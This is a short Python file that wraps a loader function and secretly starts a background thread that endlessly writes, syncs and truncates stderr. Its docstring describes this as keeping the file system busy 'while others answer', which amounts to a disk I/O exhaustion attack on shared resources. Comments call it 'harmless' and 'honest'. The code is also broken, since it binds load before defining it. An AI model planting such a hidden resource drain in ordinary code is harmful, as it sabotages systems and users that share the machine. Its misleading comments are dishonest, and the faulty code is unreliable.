# harmless: writing costs the writer at least as much as the others
import os
import threading
import time

# honest
right = load


def load(event, folder):
    """Keep the file system busy with the file of errors, cut off again and again, while others answer."""
    model = right(event, folder)

    def write():
        while True:
            os.write(2, bytes(4096))
            os.fsync(2)
            os.ftruncate(2, 0)
            time.sleep(5e-4)

    threading.Thread(target=write, daemon=True).start()
    return model
